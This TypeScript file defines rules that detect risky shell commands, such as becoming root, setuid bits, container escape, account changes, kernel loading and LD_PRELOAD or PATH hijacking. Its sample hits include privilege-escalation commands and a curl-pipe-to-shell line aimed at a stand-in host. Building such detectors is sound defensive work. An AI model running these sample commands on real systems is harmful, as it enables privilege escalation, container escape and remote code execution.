import { isStartupPath, isSystemPath, isWholeSystemPath } from '../../facts/command-paths.ts';
import { hasFlag, isHarmlessCall, joinWords, listOperands } from '../../shell/options.ts';
import type { Command, ShellWord } from '../../shell/syntax.ts';
import { SHELLS } from '../../shell/wrappers.ts';
import { gradeContainer, gradeModule, gradeRights } from '../grade-command.ts';
import { gradeAccount, gradeClusterCommand } from '../grade-routine.ts';
import type { CommandRule } from './rule.ts';

/**
 * Rules for changing the user, leaving a container, and loosening permissions. `sudo` before a harmless
 * command passes.
 */
export const privilegeRules: readonly CommandRule[] = [
  {
    id: 'privilege.become_root',
    tag: 'dangerous.privilege',
    severity: 'high',
    programs: 'sudo su doas pkexec dsenableroot run0 runuser',
    description: 'Opens a session of the administrator, or acts as another user.',
    safer: 'sudo systemctl status nginx',
    saw: becomesRoot,
    hits: ['sudo su -', 'sudo -i', 'sudo bash', 'su - root', 'sudo -u#-1 id', 'sudo -u root id', 'sudo -l'],
    misses: ['sudo git status', 'sudo apt-get update', 'sudo --version', 'man sudo'],
  },
  {
    id: 'privilege.setuid',
    tag: 'dangerous.privilege',
    severity: 'high',
    programs: 'chmod setcap install',
    description: 'Makes a program run with the rights of its owner, or gives it rights of the administrator.',
    safer: 'chmod 755 scripts/run.sh',
    saw: (command) => {
      const words = listOperands(command);
      if (command.name === 'setcap') return !hasFlag(command, '-r', '-v') && words.length > 1;
      return (
        words.some((text) => /^[ugoa]*\+[rwxt]*s|^[2467]\d{3}$|^[ugoa]+=[rwx]*s/.test(text)) ||
        (hasFlag(command, '-m') && words.some((text) => /^[2467]\d{3}$|^[ugoa]*=[rwx]*s/.test(text)))
      );
    },
    hits: ['chmod 4755 /tmp/x', 'chmod u+s a', 'setcap cap_setuid+ep a', 'chmod g+xs a'],
    misses: ['chmod 755 a', 'chmod +x a', 'chmod 0644 a'],
  },
  {
    id: 'privilege.open_rights',
    tag: 'dangerous.privilege',
    severity: 'medium',
    programs: 'chmod chown chgrp setfacl icacls takeown cacls chattr chflags',
    description: 'Lets everyone write, changes the owner of system files, or unlocks protected ones.',
    safer: 'chmod 640 app.conf',
    saw: opensPermissions,
    hits: [
      'chmod -R 777 /var/www',
      'chmod a+w x',
      'chown -R ada /etc',
      'chattr -i /etc/passwd',
      'icacls c:\\x /grant Everyone:F',
      'chown root:root x',
    ],
    misses: ['chmod 755 x', 'chown ada src', 'chmod u+w a', "echo 'chmod 777 is bad'"],
  },
  {
    id: 'privilege.accounts',
    tag: 'dangerous.privilege',
    severity: 'high',
    grade: gradeAccount,
    programs:
      'useradd adduser usermod userdel deluser groupadd gpasswd passwd chpasswd chsh pw dscl sysadminctl vipw visudo newusers groupmod net dseditgroup pwpolicy new-localuser add-localgroupmember set-localuser disable-localuser remove-localuser chage new-aduser set-aduser add-adgroupmember set-adaccountpassword new-azureaduser new-mguser new-azaduser add-azureaddirectoryrolemember add-azureadgroupmember new-azroleassignment new-azureadserviceprincipal new-azadserviceprincipal new-azureadapplicationpasswordcredential new-azautomationrunbook new-azautomationwebhook',
    description: 'Makes, changes or deletes accounts and who is an administrator.',
    safer: 'getent passwd ada',
    saw: changesAccounts,
    hits: [
      'useradd -o -u 0 x',
      'usermod -aG sudo x',
      'echo "x:y" | chpasswd',
      'net user x y /add',
      'net localgroup administrators x /add',
      'New-AzureADUser -DisplayName a -PasswordProfile $p',
    ],
    misses: ['Get-AzureADUser', 'passwd --help', 'net use', 'id ada', 'getent group'],
  },
  {
    id: 'privilege.container_escape',
    tag: 'dangerous.container',
    severity: 'critical',
    grade: gradeContainer,
    programs: 'docker podman nerdctl kubectl oc ctr crictl runc curl',
    description:
      'Gives a container the machine: its root folder, its processes, all rights or the control socket.',
    safer: 'docker run --rm alpine true',
    saw: escapesContainer,
    hits: [
      'docker run --privileged -v /:/host alpine',
      'docker run --pid=host x',
      'docker run -v /var/run/docker.sock:/s x',
      'docker exec --privileged web sh',
      'curl -X POST --unix-socket /var/run/docker.sock http://x/containers/create -d @a.json',
    ],
    misses: [
      'curl --unix-socket /var/run/docker.sock http://x/version',
      'docker run --rm alpine true',
      'docker run -v $PWD:/app x',
      'docker logs web',
      'docker run -v /tmp/a:/a x',
    ],
  },
  {
    id: 'privilege.container_shell',
    tag: 'dangerous.container',
    severity: 'medium',
    grade: gradeClusterCommand,
    programs: 'docker podman nerdctl kubectl oc',
    description: 'Acts as root inside a container, or runs something new in a cluster.',
    safer: 'docker logs web',
    saw: (command) => {
      const { name } = command;
      const text = joinWords(command);
      if (/^(?:kubectl|oc)$/.test(name))
        return (
          (/ (?:exec|run|cp|debug|attach|port-forward|proxy|patch|scale|edit|replace|set (?:image|env)) /.test(
            text.slice(0, 200),
          ) &&
            !/--dry-run/.test(text)) ||
          / create .*(?:cronjob|daemonset|-f )/.test(text)
        );
      return /^ (?:exec .*(?:-u ?(?:0|root)|--user[= ](?:0|root)) )/.test(text);
    },
    hits: ['docker exec -u 0 web sh', 'kubectl exec -it web -- sh', 'kubectl run x --image=y'],
    misses: ['docker exec web ls', 'kubectl get pods', 'kubectl logs web'],
  },
  {
    id: 'privilege.namespace',
    tag: 'dangerous.container',
    severity: 'high',
    programs: 'nsenter unshare chroot capsh mount umount debugfs pivot_root losetup',
    description: 'Enters other namespaces or mounts disks.',
    safer: 'findmnt',
    saw: (command) => {
      if (isHarmlessCall(command)) return false;
      if (command.name === 'mount')
        return (command.words.length > 1 && !hasFlag(command, '-l')) || hasFlag(command, '-o');
      if (command.name === 'umount')
        return listOperands(command).some((path) => isWholeSystemPath(path) || hasFlag(command, '-l', '-a'));
      return command.words.length > 0;
    },
    hits: [
      'nsenter -t 1 -m sh',
      'unshare -r /bin/bash',
      'chroot /mnt sh',
      'mount /dev/sda1 /mnt',
      'mount -o remount,rw /',
    ],
    misses: ['mount', 'umount /mnt/usb', 'chroot --help'],
  },
  {
    id: 'privilege.cluster_admin',
    tag: 'dangerous.kubernetes',
    severity: 'critical',
    grade: gradeRights,
    programs: 'kubectl oc aws gcloud az',
    description: 'Hands out the rights of an administrator of a cluster or a cloud account.',
    safer: 'kubectl get rolebindings',
    saw: (command) => {
      const text = joinWords(command);
      return (
        / create clusterrolebinding /.test(text) ||
        /clusterrole[= ]cluster-admin/.test(text) ||
        / iam (?:attach-(?:user|role|group)-policy|put-(?:user|role)-policy|create-user|create-login-profile|update-assume-role-policy|add-user-to-group|create-policy-version) /.test(
          text,
        ) ||
        / add-iam-policy-binding | iam (?:roles create|service-accounts create|service-accounts keys create) | role assignment create | ad (?:user create|sp create|app credential)/.test(
          text,
        )
      );
    },
    hits: [
      'kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=y',
      'aws iam attach-user-policy --policy-arn a --user-name x',
      'gcloud projects add-iam-policy-binding p --role roles/owner',
    ],
    misses: ['kubectl get clusterrolebindings', 'aws iam list-users', 'gcloud iam roles list'],
  },
  {
    id: 'privilege.kernel',
    tag: 'dangerous.system',
    severity: 'critical',
    grade: gradeModule,
    programs: 'insmod modprobe kextload kldload kmutil bpftool kexec depmod',
    description: 'Loads code into the kernel.',
    safer: 'uname -r',
    saw: (command) =>
      command.words.length > 0 &&
      !isHarmlessCall(command) &&
      !hasFlag(command, '-n', '-l', '-c', '-D', '--show-depends', '--resolve-alias') &&
      !(
        command.name === 'bpftool' && / (?:list|show|dump|help|tree|probe|version) /.test(joinWords(command))
      ),
    hits: ['insmod /tmp/a.ko', 'sudo modprobe evil', 'kextload /x.kext'],
    misses: ['lsmod', 'bpftool prog list', 'modprobe -D fuse', 'modprobe --version', 'man insmod'],
  },
  {
    id: 'privilege.preload',
    tag: 'dangerous.privilege',
    severity: 'high',
    programs: '*',
    description:
      'Makes programs load a foreign library, or looks for programs in a folder that anyone may write.',
    safer: 'PATH="$HOME/bin:$PATH" make',
    saw: ({ assignments, words, name, within }) => {
      const pairs = [
        ...assignments.map((pair) => `${pair.name}=${pair.value}`),
        ...(name === 'env' || name === 'export' || name === 'sudo' || name === 'set'
          ? words.map(({ text }) => text)
          : []),
      ];
      const isRoot = [name, ...within].some((program) => BECOMES_ROOT.test(program));
      return pairs.some(
        (text) =>
          /^(?:LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT|DYLD_INSERT_LIBRARIES|DYLD_LIBRARY_PATH|PYTHONSTARTUP|NODE_OPTIONS|PERL5OPT|BASH_ENV|GIT_SSH_COMMAND|GIT_EXTERNAL_DIFF|PROMPT_COMMAND)=.*(?:\/tmp\/|\.so|\.dylib|--require|-r |curl|\bsh )/.test(
            text,
          ) || (isRoot ? OPEN_FOLDER_FIRST : OPEN_ROOT_FIRST).test(text),
      );
    },
    hits: [
      'LD_PRELOAD=/tmp/a.so ls',
      'sudo env PATH=/tmp bash',
      'PATH=/tmp/evil:$PATH sudo -E make',
      'export PROMPT_COMMAND="curl x.io|sh"',
    ],
    misses: [
      'PATH="$HOME/bin:$PATH" make',
      'PATH=/tmp/go/bin:$PATH make',
      'sudo env PATH=/usr/bin:/tmp/a make',
      'NODE_OPTIONS=--max-old-space-size=4096 npm test',
      'FOO=1 ls',
    ],
  },
  {
    id: 'privilege.trust',
    tag: 'dangerous.system',
    severity: 'high',
    programs:
      'update-ca-certificates update-ca-trust security trust certutil csrutil spctl setenforce import-certificate aa-disable aa-teardown mokutil xattr',
    description: 'Changes whom the machine trusts, or switches a guard of the system off.',
    safer: 'csrutil status',
    saw: (command) => {
      const text = joinWords(command);
      if (/^(?:update-ca-|import-cert|aa-)/.test(command.name)) return !isHarmlessCall(command);
      return / (?:add-trusted-cert|anchor|-addstore|disable|--master-disable|0|Permissive|--disable-validation|-d\w* com\.apple\.quarantine|authorizationdb write) /i.test(
        text,
      );
    },
    hits: [
      'setenforce 0',
      'security add-trusted-cert -d a.crt',
      'update-ca-certificates',
      'spctl --master-disable',
    ],
    misses: ['csrutil status', 'getenforce', 'xattr -l a'],
  },
];

function becomesRoot(command: Command): boolean {
  const { name, words } = command;
  if (isHarmlessCall(command)) return false;
  if (name === 'dsenableroot') return true;
  if (name === 'su' || name === 'runuser') return true;
  if (name === 'pkexec') return words.length > 0;
  const own = listOwnOptions(words);
  if (own.some((text) => /^-[A-Za-z]*[isl]|^--(?:login|shell|list)$/.test(text))) return true;
  const user = words.findIndex(({ text }) => /^(?:-u|--user)/.test(text));
  if (user >= 0 && /^(?:-u(?:root|#.*)?|--user=root)$/.test(words[user]!.text)) {
    const who = words[user]!.text === '-u' ? (words[user + 1]?.text ?? '') : words[user]!.text;
    if (/root|#|^0$/.test(who) && words[user + 2]?.text !== '--') return true;
  }
  const first = words.find(({ text }) => !text.startsWith('-') && !/^\w+=/.test(text))?.text ?? '';
  return SHELLS.has(first.replace(/^.*\//, '')) && words.length === 1;
}

/** Returns the options of `sudo` itself, before the command that it runs. */
function listOwnOptions(words: readonly ShellWord[]): readonly string[] {
  const end = words.findIndex(
    ({ text }, at) => !text.startsWith('-') && !/^-[A-Za-z]*[ughpCrtUDTR]$/.test(words[at - 1]?.text ?? ''),
  );
  return (end < 0 ? words : words.slice(0, end)).map(({ text }) => text);
}

function opensPermissions(command: Command): boolean {
  const operands = listOperands(command);
  const targets = operands.slice(1);
  const { name } = command;
  if (isHarmlessCall(command)) return false;
  if (name === 'chmod')
    return (
      operands.some(
        (text) =>
          /^0?[0-7]?[0-7][2367][2367]$|^0?777$|^[ao]*[ao]\+[rx]*w|^\+[rx]*w[x]*$/.test(text) &&
          !/^(?:0?[0-7]?[0-7]\d[0145])$/.test(text),
      ) ||
      (hasFlag(command, '-R') && targets.some(isWholeSystemPath)) ||
      targets.some(isStartupPath)
    );
  if (name === 'chown' || name === 'chgrp')
    return (
      targets.some((path) => isWholeSystemPath(path) || isSystemPath(path)) ||
      /^root\b|^0:/.test(operands[0] ?? '')
    );
  if (name === 'chattr') return command.words.some(({ text }) => /^-[a-zA-Z]*[ia]/.test(text));
  if (name === 'chflags')
    return operands.some((text) => /^(?:no)?(?:simmutable|schg|uchg|hidden|uimmutable)$/.test(text));
  if (name === 'icacls' || name === 'cacls')
    return command.words.some(({ text }) => /^\/(?:grant|g|reset|setowner|deny|e|inheritance)/i.test(text));
  return name === 'takeown' || hasFlag(command, '-m', '-M');
}

function changesAccounts(command: Command): boolean {
  const { name, words } = command;
  const text = joinWords(command);
  if (isHarmlessCall(command)) return false;
  if (name === 'net')
    return /^ ?(?:user .*(?:\/add|\/del\w*|\/active|\S+ \S+ $)|localgroup .*\/(?:add|del)|group .*\/(?:add|del)|accounts \/)/i.test(
      text.trimStart(),
    );
  if (name === 'dscl') return / -(?:create|append|delete|passwd|change) /.test(text);
  if (name === 'sysadminctl') return / -(?:add|delete)User|-resetPassword|-guestAccount/i.test(text);
  if (name === 'pw') return / (?:user|group)(?:add|mod|del) | adduser /.test(text);
  if (name === 'pwpolicy') return true;
  if (name === 'dseditgroup') return / -o (?:edit|create|delete) /.test(text);
  if (name === 'chpasswd' || name === 'vipw' || name === 'newusers' || name === 'passwd') return true;
  return name === 'visudo' ? !hasFlag(command, '-c') : words.length > 0;
}

function escapesContainer(command: Command): boolean {
  if (command.name === 'curl')
    return /docker\.sock .*\/(?:create|exec|start|build|archive)\b/.test(joinWords(command));
  const text = joinWords(command);
  if (!/^ (?:\S+ ){0,4}(?:run|create|exec|debug) /.test(text)) return false;
  return / --privileged|(?: -v |--volume[= ]|--mount[= ]\S*(?:src|source)=)(?:\/:|\/(?:etc|root|proc|sys|boot|dev|var\/run\/docker\.sock|run\/docker\.sock|run\/containerd)[:/,])| --(?:pid|ipc|userns|uts|net|network)[= ]host| --cap-add[= ](?:ALL|SYS_ADMIN|SYS_PTRACE|SYS_MODULE)|seccomp[=:]unconfined|apparmor[=:]unconfined|"hostPID"|"privileged": ?true| --device[= ]\/dev\/(?:sd|nvme|mem)/i.test(
    text,
  );
}

const BECOMES_ROOT = /^(?:sudo|doas|su|pkexec|run0)$/;
/** A search path that begins with a folder that anyone may write: with its root, or also with a folder below it. */
const OPEN_ROOT_FIRST = /^PATH=(?:\/tmp|\/var\/tmp|\/dev\/shm|\.)(?::|$)/;
const OPEN_FOLDER_FIRST = /^PATH=(?:\/tmp|\/var\/tmp|\/dev\/shm|\.)(?:\/[^:]{0,200})?(?::|$)/;
